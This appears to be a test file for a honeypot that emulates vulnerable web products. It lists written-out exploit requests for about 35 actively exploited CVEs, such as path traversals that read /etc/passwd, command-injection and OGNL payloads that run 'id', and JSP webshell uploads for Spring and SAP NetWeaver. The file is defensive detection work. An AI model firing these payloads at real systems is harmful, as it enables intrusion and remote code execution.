import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { DecoyOutput, DecoySession } from '../../../core/decoy.ts';
import type { ExploitFact } from '../../../core/observation.ts';
import type { Persona } from '../../../core/persona.ts';
import { createPersona } from '../../../personas/index.ts';
import { cveSignatures } from '../../../signatures/cve/index.ts';
import { lures } from './index.ts';
import { answerOf, openHttp } from '../../../../test/support/http-visitor.ts';

const now = Date.UTC(2026, 0, 2);
let visitors = 0;

function persona(products: readonly string[]): Persona {
  const machine = createPersona('ubuntu-web', 'a seed', { now });
  const identity = { server: 'Apache/2.4.41 (Ubuntu)', title: 'A site', products };
  return { ...machine, tls: null, http: identity };
}

function session(machine: Persona, source = `45.33.${visitors >> 8}.${visitors & 255}`): DecoySession {
  visitors += 1;
  return openHttp(machine, source);
}

interface Exchange {
  readonly text: string;
  readonly exploits: readonly ExploitFact[];
}

function gathered(outputs: readonly DecoyOutput[]): Exchange {
  const text = answerOf(outputs);
  const exploits = outputs.flatMap((output) =>
    output.do === 'saw' && output.fact.kind === 'exploit' ? [output.fact] : [],
  );
  return { text, exploits };
}

function send(open: DecoySession, request: string): Exchange {
  return gathered([...open.receive(Buffer.from(request, 'latin1'))]);
}

const get = (path: string, headers = ''): string =>
  `GET ${path} HTTP/1.1\r\nHost: a.example\r\n${headers}\r\n`;
const post = (path: string, body: string, headers = '', method = 'POST'): string =>
  `${method} ${path} HTTP/1.1\r\nHost: a.example\r\n${headers}Content-Length: ${Buffer.byteLength(body, 'latin1')}\r\n\r\n${body}`;

const form = 'Content-Type: application/x-www-form-urlencoded\r\n';
const passwd = /root:x:0:0/;
const id = /uid=\d+\(/;

/** A request as attackers send it, and what a vulnerable product's answer shows. Every CVE here is in CISA's KEV catalogue. */
const exploits: readonly (readonly [cve: string, product: string, request: string, answer: RegExp])[] = [
  [
    'CVE-2023-1389',
    'tplink-archer',
    get('/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>/tmp/a)'),
    /200 OK/,
  ],
  [
    'CVE-2015-2051',
    'dlink',
    post('/HNAP1/', '', 'SOAPAction: "http://purenetworks.com/HNAP1/GetDeviceSettings/`id`"\r\n'),
    /GetDeviceSettingsResult/,
  ],
  [
    'CVE-2024-3273',
    'dlink-nas',
    get('/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=aWQ='),
    id,
  ],
  ['CVE-2018-10561', 'dasan-gpon', get('/menu.html?images/'), /GPON Home Gateway/],
  [
    'CVE-2021-36260',
    'hikvision',
    post(
      '/SDK/webLanguage',
      '<?xml version="1.0" encoding="UTF-8"?><language>$(id>webLib/x)</language>',
      '',
      'PUT',
    ),
    /HTTP\/1.1 500/,
  ],
  [
    'CVE-2018-13379',
    'fortios',
    get('/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession'),
    /var fgt_lang/,
  ],
  [
    'CVE-2022-40684',
    'fortios',
    post(
      '/api/v2/cmdb/system/admin/admin',
      '{"ssh-public-key1":"\\"ssh-rsa AAAA\\""}',
      'User-Agent: Report Runner\r\nForwarded: for="[127.0.0.1]:8888";by="[127.0.0.1]:8888"\r\nContent-Type: application/json\r\n',
      'PUT',
    ),
    /SSH key is good/,
  ],
  [
    'CVE-2019-11510',
    'pulse-secure',
    get('/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/'),
    passwd,
  ],
  [
    'CVE-2023-46805',
    'ivanti-connect-secure',
    get('/api/v1/totp/user-backup-code/../../system/system-information'),
    /software-inventory/,
  ],
  ['CVE-2019-19781', 'citrix-adc', get('/vpn/../vpns/cfg/smb.conf'), /name resolve order/],
  [
    'CVE-2020-5902',
    'f5-bigip',
    get('/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd'),
    passwd,
  ],
  [
    'CVE-2022-1388',
    'f5-bigip',
    post(
      '/mgmt/tm/util/bash',
      '{"command":"run","utilCmdArgs":"-c id"}',
      'Connection: keep-alive, X-F5-Auth-Token\r\nX-F5-Auth-Token: a\r\nAuthorization: Basic YWRtaW46\r\nContent-Type: application/json\r\n',
    ),
    id,
  ],
  [
    'CVE-2024-3400',
    'pan-os',
    post(
      '/ssl-vpn/hipreport.esp',
      'user=a',
      `Cookie: SESSID=/../../../opt/panlogs/tmp/device_telemetry/minute/a\`id\`;\r\n${form}`,
    ),
    /prelogin-response/,
  ],
  [
    'CVE-2020-3452',
    'cisco-asa',
    get(
      '/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../',
    ),
    /INTERNAL_PASSWORD_ENABLED/,
  ],
  ['CVE-2024-24919', 'checkpoint', post('/clients/MyCRL', 'aCSHELL/../../../../../../../etc/passwd'), passwd],
  [
    'CVE-2024-1709',
    'screenconnect',
    get('/SetupWizard.aspx/literallyanything'),
    /ScreenConnect Setup Wizard/,
  ],
  [
    'CVE-2021-26855',
    'exchange',
    post(
      '/ecp/y.js',
      '',
      'Cookie: X-BEResource=a]@exchange:444/autodiscover/autodiscover.xml?#~1941962753\r\n',
    ),
    /X-CalculatedBETarget/,
  ],
  [
    'CVE-2022-26134',
    'confluence',
    get(
      '/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29.%28%40com.opensymphony.webwork.ServletActionContext%40getResponse%28%29.setHeader%28%22X-Cmd-Response%22%2C%23a%29%29%7D/',
    ),
    /X-Cmd-Response: uid=/,
  ],
  [
    'CVE-2023-22515',
    'confluence',
    get('/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false'),
    /success/,
  ],
  [
    'CVE-2017-5638',
    'struts',
    get(
      '/index.action',
      "Content-Type: %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id').(#cmds={'/bin/bash','-c',#cmd}).(#p=new java.lang.ProcessBuilder(#cmds)).(#process=#p.start())}\r\n",
    ),
    id,
  ],
  [
    'CVE-2022-22965',
    'spring',
    post(
      '/',
      'class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&class.module.classLoader.resources.context.parent.pipeline.first.prefix=shell',
      form,
    ),
    /200 OK/,
  ],
  [
    'CVE-2017-10271',
    'weblogic',
    post(
      '/wls-wsat/CoordinatorPortType',
      '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java version="1.8.0" class="java.beans.XMLDecoder"><void class="java.lang.ProcessBuilder"><array class="java.lang.String" length="3"><void index="0"><string>/bin/sh</string></void><void index="1"><string>-c</string></void><void index="2"><string>id</string></void></array><void method="start"/></void></java></work:WorkContext></soapenv:Header></soapenv:Envelope>',
      'Content-Type: text/xml\r\n',
    ),
    /S:Fault/,
  ],
  ['CVE-2020-14882', 'weblogic', get('/console/css/%252e%252e%252fconsole.portal'), /WLS Console/],
  ['CVE-2017-12615', 'tomcat', post('/shell.jsp/', '<% out.println("a"); %>', '', 'PUT'), /HTTP\/1.1 201/],
  [
    'CVE-2024-27198',
    'teamcity',
    post('/idontexist?jsp=/app/rest/users/id:1/tokens/RPC2;.jsp', ''),
    /<token name="RPC2"/,
  ],
  ['CVE-2021-41773', 'apache-httpd', get('/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd'), passwd],
  ['CVE-2014-6271', 'cgi-bash', get('/cgi-bin/status', 'User-Agent: () { :; }; echo; /usr/bin/id\r\n'), id],
  [
    'CVE-2017-9841',
    'phpunit',
    post('/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '<?php system("id"); ?>'),
    id,
  ],
  [
    'CVE-2024-4577',
    'php-cgi',
    post(
      '/index.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input',
      '<?php system("id"); ?>',
    ),
    id,
  ],
  [
    'CVE-2018-20062',
    'thinkphp',
    get(
      '/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id',
    ),
    id,
  ],
  [
    'CVE-2021-3129',
    'laravel',
    post(
      '/_ignition/execute-solution',
      '{"solution":"Facade\\\\Ignition\\\\Solutions\\\\MakeViewVariableOptionalSolution","parameters":{"variableName":"a","viewFile":"php://filter/write=convert.base64-decode/resource=../storage/logs/laravel.log"}}',
      'Content-Type: application/json\r\n',
    ),
    /MakeViewVariableOptionalSolution/,
  ],
  [
    'CVE-2018-7600',
    'drupal',
    post(
      '/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax',
      'form_id=user_register_form&_drupal_ajax=1&mail[#post_render][]=exec&mail[#type]=markup&mail[#markup]=id',
      form,
    ),
    /ajax-new-content/,
  ],
  ['CVE-2021-21972', 'vcenter', get('/ui/vropspluginui/rest/services/uploadova'), /405|200/],
  [
    'CVE-2024-51567',
    'cyberpanel',
    post(
      '/dataBases/upgrademysqlstatus',
      '{"statusfile":"/dev/null; id; #","csrftoken":""}',
      'Content-Type: application/json\r\n',
      'OPTIONS',
    ),
    id,
  ],
  [
    'CVE-2025-3248',
    'langflow',
    post(
      '/api/v1/validate/code',
      '{"code":"@exec(\\"raise Exception(__import__(\'subprocess\').check_output(\'id\'))\\")\\ndef a(): pass"}',
      'Content-Type: application/json\r\n',
    ),
    /"function"/,
  ],
];

describe('the lures', () => {
  it('stand for signatures that there are, under the same product', () => {
    const signatures = new Map(cveSignatures.map((signature) => [signature.name, signature.product]));
    for (const lure of lures) {
      for (const name of lure.signatures)
        expect(`${name} ${signatures.get(name)}`).toBe(`${name} ${lure.product}`);
    }
  });

  it('are tried for at least thirty exploited CVEs', () => {
    expect(new Set(exploits.map(([cve]) => cve)).size).toBeGreaterThanOrEqual(30);
  });

  it.each(exploits)(
    '%s: recognised, and answered as a vulnerable %s does',
    (cve, product, request, answer) => {
      const seen = send(session(persona([product])), request);
      expect(seen.exploits.flatMap((fact) => fact.cves)).toContain(cve);
      expect(seen.text).toMatch(answer);
    },
  );

  it.each(exploits.filter(([, , , answer]) => answer === id || answer === passwd))(
    '%s: recognised, and not believed, where the machine has no %s',
    (cve, _product, request, answer) => {
      const seen = send(session(persona([])), request);
      expect(seen.exploits.flatMap((fact) => fact.cves)).toContain(cve);
      expect(seen.text).not.toMatch(answer);
    },
  );

  it('remember the first step of an exploit of two', () => {
    const machine = persona(['spring']);
    const drop = exploits.find(([cve]) => cve === 'CVE-2022-22965')?.[2] ?? '';
    expect(send(session(machine, '45.34.0.1'), get('/shell.jsp?cmd=id')).text).not.toMatch(id);
    send(session(machine, '45.34.0.1'), drop);
    expect(send(session(machine, '45.34.0.1'), get('/shell.jsp?pwd=j&cmd=id')).text).toMatch(id);
    expect(send(session(machine, '45.34.0.2'), get('/shell.jsp?pwd=j&cmd=id')).text).not.toMatch(id);
  });

  it('run commands in the JSP that was uploaded to SAP NetWeaver, for who uploaded it', () => {
    const machine = persona(['sap-netweaver']);
    const body =
      '--b\r\nContent-Disposition: form-data; name="file"; filename="helper.jsp"\r\nContent-Type: application/octet-stream\r\n\r\n<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>\r\n--b--\r\n';
    const upload = post(
      '/developmentserver/metadatauploader?CONTENTTYPE=MODEL&CLIENT=1',
      body,
      'Content-Type: multipart/form-data; boundary=b\r\n',
    );
    expect(send(session(machine, '45.34.1.1'), get('/irj/helper.jsp?cmd=id')).text).not.toMatch(id);
    const seen = send(session(machine, '45.34.1.1'), upload);
    expect(seen.exploits.flatMap((fact) => fact.cves)).toContain('CVE-2025-31324');
    expect(seen.text).toMatch(/FAILED$/);
    expect(send(session(machine, '45.34.1.1'), get('/irj/helper.jsp?cmd=id')).text).toMatch(id);
    expect(send(session(machine, '45.34.1.2'), get('/irj/helper.jsp?cmd=id')).text).not.toMatch(id);
  });

  it('answer the same for any split of the request, and never throw on bytes that are none', () => {
    const machine = persona(['*']);
    fc.assert(
      fc.property(
        fc.constantFrom(...exploits.map(([, , request]) => request)),
        fc.array(fc.nat(2000), { maxLength: 6 }),
        (request, cuts) => {
          const bytes = Buffer.from(request, 'latin1');
          const places = [...new Set(cuts.map((cut) => cut % bytes.length))].sort(
            (left, right) => left - right,
          );
          const open = session(machine, '45.35.0.1');
          const whole = send(session(machine, '45.35.0.2'), request);
          const parts: DecoyOutput[] = [];
          for (const [index, from] of [0, ...places].entries()) {
            parts.push(...open.receive(bytes.subarray(from, places[index] ?? bytes.length)));
          }
          expect(gathered(parts).exploits.map((fact) => fact.name)).toEqual(
            whole.exploits.map((fact) => fact.name),
          );
        },
      ),
      { numRuns: 60 },
    );
    fc.assert(
      fc.property(fc.array(fc.uint8Array({ maxLength: 300 }), { maxLength: 5 }), (pieces) => {
        const open = session(machine, '45.35.0.3');
        for (const piece of pieces)
          for (const output of open.receive(piece)) expect(output.do).toBeTypeOf('string');
      }),
      { numRuns: 200 },
    );
  });
});
